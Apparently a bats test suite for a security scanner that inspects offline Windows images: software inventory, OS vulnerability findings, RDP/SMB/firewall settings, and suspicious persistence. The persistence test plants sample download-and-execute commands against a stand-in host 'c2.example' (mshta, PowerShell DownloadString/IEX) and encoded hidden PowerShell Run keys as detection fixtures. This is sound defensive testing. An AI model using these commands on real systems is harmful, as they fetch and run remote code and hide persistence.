#!/usr/bin/env bats
# Offline Windows images: `tenken scan --root DIR` of a system drive whose registry hives
# (SOFTWARE, SYSTEM, a profile's NTUSER.DAT) the test builds itself with tests/tools/mkhive.py
# and hivexregedit --merge. Software, the identity, RDP, SMBv1 and the firewall come from
# the hives; hash IOCs from the image's files.

load helpers

setup() {
    command -v hivexregedit >/dev/null || skip "hivexregedit (libwin-hivex-perl) is not installed"
    IMG="$BATS_TEST_TMPDIR/img"
    OUT="$BATS_TEST_TMPDIR/b.json"
    export XDG_DATA_HOME="$BATS_TEST_TMPDIR/xdg"
    make_image "$IMG"
}

# hive FILE PREFIX: a new hive at FILE holding the .reg text on stdin, whose keys start
# with PREFIX.
hive() {
    local reg="$BATS_TEST_TMPDIR/$(basename "$1").reg"
    { printf 'Windows Registry Editor Version 5.00\n\n'; cat; } >"$reg"
    "$PYTHON" "$SRCDIR/tests/tools/mkhive.py" "$1" --merge "$reg" --prefix "$2"
}

SID=S-1-5-21-1111111111-2222222222-3333333333-1001

make_image() {
    local r=$1
    mkdir -p "$r/Windows/System32/config" "$r/Users/alice/AppData/Roaming/Zoom/bin" \
        "$r/Users/alice/Downloads" "$r/ProgramData"
    hive "$r/Windows/System32/config/SOFTWARE" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<REG
[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion]
"ProductName"="Windows 10 Pro"
"DisplayVersion"="23H2"
"CurrentBuildNumber"="22631"
"CurrentMajorVersionNumber"=dword:0000000a
"CurrentMinorVersionNumber"=dword:00000000
"UBR"=dword:00000c5f

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\S-1-5-18]
"ProfileImagePath"=hex(2):25,00,73,00,79,00,73,00,74,00,65,00,6d,00,72,00,6f,00,6f,00,74,00,25,00,00,00

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\$SID]
"ProfileImagePath"="C:\\\\Users\\\\alice"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography]
"MachineGuid"="6f1c2a1e-0000-4000-8000-123456789abc"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{6B5F0A7E-1111-2222-3333-444455556666}]
"DisplayName"="Zoom Workplace (64-bit)"
"DisplayVersion"="5.17.11.34827"
"Publisher"="Zoom Video Communications, Inc."
"InstallLocation"="C:\\\\Program Files\\\\Zoom\\\\bin"
"WindowsInstaller"=dword:00000001

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\E7A0F5B6111122223333444455556666\\InstallProperties]
"DisplayName"="Zoom Workplace (64-bit)"
"DisplayVersion"="5.17.11.34827"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\$SID\\Products\\D1C2B4E02B1A4D3C5E6F1032547698BA\\InstallProperties]
"DisplayName"="Cisco Webex Meetings"
"DisplayVersion"="41.6.4"
"Publisher"="Cisco Webex LLC"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\$SID\\Products\\NOTAPACKEDGUID\\InstallProperties]
"DisplayName"="Nothing"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\KB5031356]
"DisplayName"="Update for Zoom"
"ParentKeyName"="{6B5F0A7E-1111-2222-3333-444455556666}"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\NoName]
"DisplayVersion"="1.0"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_KB5034441~31bf3856ad364e35~amd64~~19041.3920.1.3]
"CurrentState"=dword:00000070

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_KB5031356~31bf3856ad364e35~amd64~~19041.3570.1.5]
"CurrentState"=dword:00000070

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_KB5000001~31bf3856ad364e35~amd64~~19041.800.1.2]
"CurrentState"=dword:00000050

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_RollupFix~31bf3856ad364e35~amd64~~19041.3920.1.3]
"CurrentState"=dword:00000070

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection]
"DisableRealtimeMonitoring"=dword:00000001

[HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Google Chrome]
"DisplayName"="Google Chrome"
"DisplayVersion"="120.0.6099.109"
"Publisher"="Google LLC"
REG
    hive "$r/Windows/System32/config/SYSTEM" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
[HKEY_LOCAL_MACHINE\SYSTEM\Select]
"Current"=dword:00000002

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\ComputerName\ComputerName]
"ComputerName"="STALE-SET"

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Control\ComputerName\ComputerName]
"ComputerName"="TELEWORK-PC"

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Control\Session Manager\Environment]
"PROCESSOR_ARCHITECTURE"="AMD64"

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Control\TimeZoneInformation]
"TimeZoneKeyName"="Tokyo Standard Time"

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Control\Terminal Server]
"fDenyTSConnections"=dword:00000000

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Control\Terminal Server\WinStations\RDP-Tcp]
"PortNumber"=dword:00000d3d
"UserAuthentication"=dword:00000000

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\LanmanServer]
"Start"=dword:00000002

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\LanmanServer\Parameters]
"SMB1"=dword:00000001

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\WinDefend]
"Start"=dword:00000002

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\srv]
"Start"=dword:00000003

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile]
"EnableFirewall"=dword:00000001

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\SharedAccess\Parameters\FirewallPolicy\PublicProfile]
"EnableFirewall"=dword:00000000
REG
    hive "$r/Users/alice/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Uninstall\ZoomUMX]
"DisplayName"="Zoom"
"DisplayVersion"="5.12.0 (8964)"
"Publisher"="Zoom Video Communications, Inc."

[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Uninstall\Nengajo]
"DisplayName"="年賀状ソフト"
"DisplayVersion"="2026"
REG
}

@test "an offline Windows image: edition, identity and software from its hives" {
    run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    jq -e '.host.os.family == "windows" and .host.os.name == "Windows 11 Pro"' "$OUT"
    jq -e '.host.os.version_id == "10.0.22631" and .host.kernel.release == "10.0.22631.3167"' "$OUT"
    jq -e '.host.hostname == "TELEWORK-PC" and .host.arch == "x86_64"' "$OUT"
    jq -e '.host.timezone == "Tokyo Standard Time" and (.host.endpoint_id | length == 32)' "$OUT"
    # installed updates from the servicing stack: superseded and KB-less packages left out
    jq -e '.host.updates == ["KB5031356", "KB5034441"]' "$OUT"
    # four programs: the update and the nameless entry are not software of their own
    run jq -r '[.inventory[] | select(.source == "registry" and .kind != "os") | "\(.name)|\(.version)|\(.arch // "-")|\(.user // "-")"] | sort | .[]' "$OUT"
    [ "${lines[0]}" = "Google Chrome|120.0.6099.109|x86|-" ]
    [ "${lines[1]}" = "Zoom Workplace (64-bit)|5.17.11.34827|x64|-" ]
    [ "${lines[2]}" = "Zoom|5.12.0 (8964)|-|alice" ]
    [ "${lines[3]}" = "年賀状ソフト|2026|-|alice" ]
    [ "${#lines[@]}" -eq 4 ]
    jq -e '[.inventory[] | select(.source == "registry" and .kind != "os")] | length == 4' "$OUT"
    # Windows Installer products: the machine-wide one (listed by its Uninstall key) once; a
    # per-user install, which has no Uninstall key, from the installer's own records
    jq -e '[.inventory[] | select(.source == "msi") | [.name, .version, .user, .id, .vendor]] == [["Cisco Webex Meetings", "41.6.4", "alice", "{0E4B2C1D-A1B2-C3D4-E5F6-0123456789AB}", "Cisco Webex LLC"]]' "$OUT"
    jq -e '[.inventory[] | select(.name == "Zoom Workplace (64-bit)")] | length == 1' "$OUT"
    # and Windows itself, versioned by build and update revision
    jq -e '[.inventory[] | select(.kind == "os")] == [{"name": "Windows 11 Pro", "version": "10.0.22631.3167", "source": "registry", "kind": "os", "vendor": "Microsoft Corporation", "arch": "x86_64", "version_from": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"}]' "$OUT"
}

# os_image DIR PRODUCTNAME CURRENTVERSION BUILD [UBR [APP]]: a system drive whose SOFTWARE hive
# holds the release (Windows 10 and later have the major/minor numbers and an update
# revision) and perhaps one registered program.
os_image() {
    mkdir -p "$1/Windows/System32/config"
    {
        printf '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion]\n'
        printf '"ProductName"="%s"\n"CurrentVersion"="%s"\n"CurrentBuildNumber"="%s"\n' "$2" "$3" "$4"
        [ -z "${5:-}" ] || printf '"CurrentMajorVersionNumber"=dword:0000000a\n"CurrentMinorVersionNumber"=dword:00000000\n"UBR"=dword:%08x\n' "$5"
        printf '\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography]\n"MachineGuid"="%s"\n' "$4-$RANDOM"
        [ -z "${6:-}" ] || printf '\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\App]\n"DisplayName"="%s"\n"DisplayVersion"="1.4.19041.3630"\n' "$6"
    } | hive "$1/Windows/System32/config/SOFTWARE" 'HKEY_LOCAL_MACHINE\SOFTWARE'
}

# os_findings DIR: "id|product|cve,cve…|confidence" per vulnerability finding of kind os
os_findings() {
    "$TENKEN" scan --root "$1" --os windows --no-memory --no-disk --no-traces --out "$1.json" --no-progress >/dev/null
    validate "$1.json"
    jq -r '.findings[] | select(.vulnerability.product.kind == "os") | "\(.id)|\(.vulnerability.product.id)|\([.vulnerability.cves[]?.cve] | sort | join(","))|\(.confidence)"' "$1.json" | sort
}

@test "an offline Windows image: the release and its update revision are judged (end of life, BlueKeep, DejaBlue, SMBGhost)" {
    # Windows 10 1903 before August 2019: DejaBlue and SMBGhost (KEV), and Windows 10's end
    os_image "$BATS_TEST_TMPDIR/a" "Windows 10 Pro" 6.3 18362 267
    run os_findings "$BATS_TEST_TMPDIR/a"
    [ "$status" -eq 0 ]
    printf '%s\n' "${lines[@]}"
    [ "${lines[0]}" = "TK-VULN-EOL|microsoft-windows-10||high" ]
    [ "${lines[1]}" = "TK-VULN-MICROSOFT-WINDOWS-10|microsoft-windows-10|CVE-2019-1181,CVE-2019-1182,CVE-2020-0796|high" ]
    [ "${#lines[@]}" -eq 2 ]
    jq -e '.findings[] | select(.id == "TK-VULN-MICROSOFT-WINDOWS-10") | .severity == "critical" and .vulnerability.update_to == "10.0.18362.720"' "$BATS_TEST_TMPDIR/a.json"
    # 1909 with the March 2020 fix: nothing but the end of life
    os_image "$BATS_TEST_TMPDIR/b" "Windows 10 Home" 6.3 18363 720
    run os_findings "$BATS_TEST_TMPDIR/b"
    [ "$status" -eq 0 ]
    [ "$output" = "TK-VULN-EOL|microsoft-windows-10||high" ]
    # LTSC 2019 (supported until 2029) before August 2019: DejaBlue only
    os_image "$BATS_TEST_TMPDIR/c" "Windows 10 Enterprise LTSC 2019" 6.3 17763 557
    run os_findings "$BATS_TEST_TMPDIR/c"
    [ "$status" -eq 0 ]
    [ "$output" = "TK-VULN-MICROSOFT-WINDOWS-10-LTSC|microsoft-windows-10-ltsc|CVE-2019-1181,CVE-2019-1182|high" ]
    # Windows 7 keeps no update revision: BlueKeep and the rest are possible, not certain
    # ("Microsoft Windows 7", as older releases and wine name it); a program named after
    # Windows is not Windows
    os_image "$BATS_TEST_TMPDIR/d" "Microsoft Windows 7 Professional" 6.1 7601 "" "Windows 10 Update Assistant"
    run os_findings "$BATS_TEST_TMPDIR/d"
    [ "$status" -eq 0 ]
    [ "${lines[0]}" = "TK-VULN-EOL|microsoft-windows-7||high" ]
    [ "${lines[1]}" = "TK-VULN-MICROSOFT-WINDOWS-7|microsoft-windows-7|CVE-2017-0144,CVE-2019-0708,CVE-2019-1181,CVE-2019-1182|low" ]
    [ "${#lines[@]}" -eq 2 ]
    jq -e '.findings[] | select(.id == "TK-VULN-MICROSOFT-WINDOWS-7") | .severity == "medium" and .vulnerability.counts.possible == 4' "$BATS_TEST_TMPDIR/d.json"
    # Windows 11 releases by edition: 23H2 Home/Pro ended 2025-11-11; 25H2 is supported
    os_image "$BATS_TEST_TMPDIR/e" "Windows 10 Pro" 6.3 22631 3155
    run os_findings "$BATS_TEST_TMPDIR/e"
    [ "$status" -eq 0 ]
    [ "$output" = "TK-VULN-UNSUPPORTED|microsoft-windows-11||high" ]
    jq -e '.findings[] | select(.id == "TK-VULN-UNSUPPORTED") | .vulnerability.eol == "2025-11-11"' "$BATS_TEST_TMPDIR/e.json"
    # told to move to the newest Windows 11 release still supported when it was scanned
    jq -e '.findings[] | select(.id == "TK-VULN-UNSUPPORTED") | .vulnerability.update_to == "10.0.26200"' "$BATS_TEST_TMPDIR/e.json"
    os_image "$BATS_TEST_TMPDIR/f" "Windows 10 Enterprise" 6.3 26200 7171
    run os_findings "$BATS_TEST_TMPDIR/f"
    [ "$status" -eq 0 ]
    [ "$output" = "" ]
    jq -e '.inventory[] | select(.kind == "os") | .name == "Windows 11 Enterprise" and .version == "10.0.26200.7171"' "$BATS_TEST_TMPDIR/f.json"
    # IoT Enterprise LTSC 2021 is serviced until 2032, longer than Enterprise LTSC 2021 (2027)
    os_image "$BATS_TEST_TMPDIR/h" "Windows 10 IoT Enterprise LTSC 2021" 6.3 19044 5000
    run os_findings "$BATS_TEST_TMPDIR/h"
    [ "$status" -eq 0 ]
    [ "$output" = "" ]
    # Windows 11 IoT Enterprise (not LTSC) follows Enterprise's 36 months: 24H2 until 2027
    os_image "$BATS_TEST_TMPDIR/i" "Windows 10 IoT Enterprise" 6.3 26100 4000
    run os_findings "$BATS_TEST_TMPDIR/i"
    [ "$status" -eq 0 ]
    [ "$output" = "" ]
    # a release newer than the knowledge base is not guessed at
    os_image "$BATS_TEST_TMPDIR/g" "Windows 10 Pro" 6.3 29000 1
    run os_findings "$BATS_TEST_TMPDIR/g"
    [ "$status" -eq 0 ]
    [ "$output" = "" ]
}

@test "an offline Windows image: RDP without NLA on its port, SMBv1 on, a firewall profile off" {
    run "$TENKEN" scan --root "$IMG" --os windows --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    jq -e '.network.services.rdp | .enabled == true and .nla_required == false and .port == 3389' "$OUT"
    jq -e '.network.services.smb | .installed and .smb1_allowed == true and .min_protocol == "NT1"' "$OUT"
    jq -e '.network.firewall.loaded == false' "$OUT"
    jq -e '.network.firewall.evidence | index("Windows Firewall public profile: off") != null' "$OUT"
    # Defender's real-time protection turned off by policy: judged even though offline
    jq -e '.antivirus | .product == "Microsoft Defender" and .active == false and (.evidence | index("Real-Time Protection: DisableRealtimeMonitoring = 1") != null)' "$OUT"
    jq -e '.findings[] | select(.id == "TK-CFG-ANTIVIRUS-OFF") | .severity == "medium"' "$OUT"
}

@test "an offline Windows image: browsers and meeting tools versioned by their program files" {
    local chrome="$IMG/Program Files (x86)/Google/Chrome/Application"
    local zoom="$IMG/Users/alice/AppData/Roaming/Zoom/bin"
    local teams="$IMG/Program Files/WindowsApps/MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe"
    mkdir -p "$chrome" "$zoom" "$teams" "$IMG/Program Files/Mozilla Firefox"
    # the registry says Chrome 120.0.6099.109; the program that runs is newer
    "$PYTHON" "$SRCDIR/tests/tools/mkpe.py" "$chrome/chrome.exe" --pe32 --file-version 131.0.6778.86 \
        --string ProductVersion=131.0.6778.86 --string 'ProductName=Google Chrome'
    "$PYTHON" "$SRCDIR/tests/tools/mkpe.py" "$zoom/Zoom.exe" --file-version 5.12.0.8964 \
        --string 'ProductVersion=5.12.0 (8964)'
    "$PYTHON" "$SRCDIR/tests/tools/mkpe.py" "$teams/ms-teams.exe" --file-version 24124.2315.2911.3357
    # Firefox keeps the marketing version in the string table
    "$PYTHON" "$SRCDIR/tests/tools/mkpe.py" "$IMG/Program Files/Mozilla Firefox/firefox.exe" \
        --file-version 121.0.0.8720 --string ProductVersion=121.0
    # a damaged program file: listed without a version, and the error names it
    head -c 300 "$zoom/Zoom.exe" >"$IMG/Program Files/Zoom.exe"
    mkdir -p "$IMG/Program Files/Zoom/bin" && mv "$IMG/Program Files/Zoom.exe" "$IMG/Program Files/Zoom/bin/"
    run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    run jq -r '[.inventory[] | select(.source == "file") | "\(.name)|\(.version)|\(.arch // "-")|\(.user // "-")|\(.path)"] | sort | .[]' "$OUT"
    printf '%s\n' "${lines[@]}"
    [ "${lines[0]}" = "Firefox|121.0|x64|-|/Program Files/Mozilla Firefox/firefox.exe" ]
    [ "${lines[1]}" = "Google Chrome|131.0.6778.86|x86|-|/Program Files (x86)/Google/Chrome/Application/chrome.exe" ]
    [ "${lines[2]}" = "Microsoft Teams|24124.2315.2911.3357|x64|-|/Program Files/WindowsApps/MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe/ms-teams.exe" ]
    [ "${lines[3]}" = "Zoom|5.12.0.8964|x64|alice|/Users/alice/AppData/Roaming/Zoom/bin/Zoom.exe" ]
    [ "${lines[4]}" = "Zoom|null|-|-|/Program Files/Zoom/bin/Zoom.exe" ]
    [ "${#lines[@]}" -eq 5 ]
    jq -e '.errors[] | select(.collector == "programs" and .path == "/Program Files/Zoom/bin/Zoom.exe")' "$OUT"
    # the program file's version is judged: Zoom 5.12.0.8964 is outdated
    jq -e '[.findings[] | select(.vulnerability.product.id == "zoom") | .evidence[].text] | any(test("5.12.0.8964"))' "$OUT"
}

@test "an offline Windows image: browser extensions from the profiles in AppData" {
    local ud="$IMG/Users/alice/AppData/Local/Google/Chrome/User Data/Default"
    local id=aapocclcgogkmnckokdopfmhonfmgoek ff="$IMG/Users/alice/AppData/Roaming/Mozilla/Firefox"
    mkdir -p "$ud/Extensions/$id/0.10_0" "$ff/Profiles/abcd1234.default-release"
    printf '{"name": "Slides", "version": "0.10", "manifest_version": 3}' >"$ud/Extensions/$id/0.10_0/manifest.json"
    printf '{"extensions": {"settings": {"%s": {"state": 0}}}}' "$id" >"$ud/Preferences"
    printf '[Profile0]\r\nName=default-release\r\nIsRelative=1\r\nPath=Profiles/abcd1234.default-release\r\n' >"$ff/profiles.ini"
    printf '{"addons": [{"id": "uBlock0@raymondhill.net", "type": "extension", "location": "app-profile", "version": "1.55.0", "active": true, "defaultLocale": {"name": "uBlock Origin"}}, {"id": "formautofill@mozilla.org", "location": "app-builtin", "version": "1.0"}]}' \
        >"$ff/Profiles/abcd1234.default-release/extensions.json"
    run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    run jq -r '[.inventory[] | select(.kind == "extension") | "\(.browser)|\(.name)|\(.version)|\(.enabled)|\(.user)"] | sort | .[]' "$OUT"
    printf '%s\n' "${lines[@]}"
    [ "${#lines[@]}" -eq 2 ]
    [ "${lines[0]}" = "Firefox|uBlock Origin|1.55.0|true|alice" ]
    [ "${lines[1]}" = "Google Chrome|Slides|0.10|false|alice" ]
}

# task NAME COMMAND ARGUMENTS: a scheduled task file as Task Scheduler writes it (UTF-16LE)
task() {
    local f="$IMG2/Windows/System32/Tasks/$1"
    mkdir -p "$(dirname "$f")"
    { printf '\xff\xfe'; printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task>\r\n' "$2" "$3" | iconv -f UTF-8 -t UTF-16LE; } >"$f"
}

@test "an offline Windows image: suspicious Run keys, services, scheduled tasks and Startup programs are traces" {
    IMG2="$BATS_TEST_TMPDIR/img2"
    local startup=Microsoft/Windows/Start\ Menu/Programs
    mkdir -p "$IMG2/Windows/System32/config" "$IMG2/Users/alice/AppData/Roaming/$startup/Startup" \
        "$IMG2/ProgramData/$startup/StartUp"
    hive "$IMG2/Windows/System32/config/SOFTWARE" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<REG
[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\$SID]
"ProfileImagePath"="C:\\\\Users\\\\alice"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]
"SecurityHealth"="%windir%\\\\system32\\\\SecurityHealthSystray.exe"
"Updater"="powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
"Pad"="cmd /c $(printf '%2100s' '') powershell -enc SQBFAFgA"

[HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run]
"Helper"="\\"C:\\\\Users\\\\Public\\\\helper.exe\\" /silent"
REG
    hive "$IMG2/Windows/System32/config/SYSTEM" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
[HKEY_LOCAL_MACHINE\SYSTEM\Select]
"Current"=dword:00000001

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\Spooler]
"ImagePath"="%SystemRoot%\\System32\\spoolsv.exe"

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\VendorSvc]
"ImagePath"="\"C:\\Program Files\\Vendor\\svc.exe\""

[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinUpdSvc]
"ImagePath"="C:\\Users\\alice\\AppData\\Roaming\\svc\\svchost.exe"
REG
    hive "$IMG2/Users/alice/NTUSER.DAT" 'HKEY_CURRENT_USER' <<REG
[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
"$(printf 'N%.0s' $(seq 5000))"="C:\\\\Windows\\\\notepad.exe"
"Evil"="powershell -EncodedCommand SQBFAFgA"
"com.squirrel.Teams.Teams"="C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\Teams\\\\Update.exe --processStart \\"Teams.exe\\""

[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]
"x"="mshta http://c2.example/a.hta"
REG
    task 'Microsoft/Windows/Defrag/ScheduledDefrag' '%windir%\system32\defrag.exe' '-c -h -o -$'
    task 'OneDrive Standalone Update Task' '%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe' '/reporting'
    task 'Sync' 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' "-w hidden -c IEX (New-Object Net.WebClient).DownloadString(&apos;http://c2.example/a&apos;)"
    printf '[.ShellClassInfo]\r\n' >"$IMG2/ProgramData/$startup/StartUp/desktop.ini"
    # shortcuts are judged by what they run: an ordinary one, PowerShell with an encoded
    # command, a program in %TEMP% named only in the environment-variable block (the id list
    # before it skipped), and a damaged one (an error naming it)
    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/ProgramData/$startup/StartUp/OneNote.lnk" \
        --local 'C:\Program Files\Microsoft Office\root\Office16\ONENOTEM.EXE' --args /tsr
    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/Users/alice/AppData/Roaming/$startup/Startup/WinUpdate.lnk" \
        --local 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' --args '-w hidden -enc SQBFAFgA' \
        --workdir 'C:\Windows'
    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/ProgramData/$startup/StartUp/Sync.lnk" --ansi \
        --id-list 3 --env-target '%TEMP%\svc.exe'
    printf 'L\0\0\0' >"$IMG2/ProgramData/$startup/StartUp/Broken.lnk"
    printf 'CreateObject("WScript.Shell").Run "calc"\r\n' >"$IMG2/Users/alice/AppData/Roaming/$startup/Startup/update.vbs"
    run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    run jq -r '[.traces[] | select(.kind == "persistence") | "\(.why)|\(.path)|\(.user // "-")"] | sort | .[]' "$OUT"
    printf '%s\n' "${lines[@]}"
    [ "${#lines[@]}" -eq 10 ]
    [ "${lines[0]}" = "download-exec|/Windows/System32/Tasks/Sync|-" ]
    [ "${lines[1]}" = "encoded-exec|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/WinUpdate.lnk|alice" ]
    # a command padded past the first kilobytes is still judged whole
    [ "${lines[2]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Pad|-' ]
    [ "${lines[3]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
    # a 5,000-character value name before it hides nothing
    [ "${lines[4]}" = "encoded-exec|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil|alice" ]
    [ "${lines[5]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
    [ "${lines[6]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
    [ "${lines[7]}" = "tmp-path|/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Sync.lnk|-" ]
    [ "${lines[8]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
    [ "${lines[9]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
    # a shortcut's trace shows what it runs
    jq -e '.traces[] | select(.path | endswith("WinUpdate.lnk")) | .text == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -enc SQBFAFgA"' "$OUT"
    jq -e '.traces[] | select(.path | endswith("Sync.lnk")) | .text == "%TEMP%\\svc.exe"' "$OUT"
    jq -e '.errors[] | select((.path // "") | endswith("StartUp/Broken.lnk")) | .kind == "parse"' "$OUT"
    jq -e '.traces[] | select(.why == "download-exec") | .text | contains("DownloadString(\u0027http://c2.example/a\u0027)")' "$OUT"
    jq -e '[.findings[] | select(.id == "TK-TRACE-PERSISTENCE")] | length == 1' "$OUT"
    # --only autostart selects the collector by itself
    run "$TENKEN" scan --root "$IMG2" --only host,users,autostart --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    jq -e '[.traces[] | select(.kind == "persistence")] | length == 10' "$OUT"
    # --no-traces: none looked for
    run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    jq -e '(.traces | length) == 0' "$OUT"
}

@test "an offline Windows image: the outdated Zoom is judged from the registry version" {
    run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    jq -e '[.findings[] | select(.vulnerability.product.id == "zoom")] | length >= 1' "$OUT"
    # the machine-wide Windows Installer (MSI) product is judged too, not only the user's copy
    jq -e '[.findings[] | select(.vulnerability.product.id == "zoom") | .evidence[].text] | any(test("Zoom Workplace \\(64-bit\\) 5.17.11.34827"))' "$OUT"
}

@test "an offline Windows image: a hash IOC hit on a file in a profile (quick places)" {
    printf 'tenken windows image test payload\n' >"$IMG/Users/alice/Downloads/invoice.exe"
    local sha
    sha=$(sha256sum "$IMG/Users/alice/Downloads/invoice.exe" | cut -d' ' -f1)
    printf '%s;90;test payload\n' "$sha" >"$BATS_TEST_TMPDIR/hash-iocs.txt"
    run "$TENKEN" scan --root "$IMG" --no-memory --no-traces --iocs "$BATS_TEST_TMPDIR/hash-iocs.txt" \
        --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    jq -e --arg s "$sha" '.detections[] | select(.path == "/Users/alice/Downloads/invoice.exe") | .hashes.sha256 == $s and .level == "alert"' "$OUT"
}

@test "an offline Windows image: a damaged hive is an error naming it, not a crash" {
    head -c 6000 "$IMG/Windows/System32/config/SYSTEM" >"$BATS_TEST_TMPDIR/s"
    printf 'garbage' | dd of="$BATS_TEST_TMPDIR/s" bs=1 seek=4200 conv=notrunc 2>/dev/null
    cp "$BATS_TEST_TMPDIR/s" "$IMG/Windows/System32/config/SYSTEM"
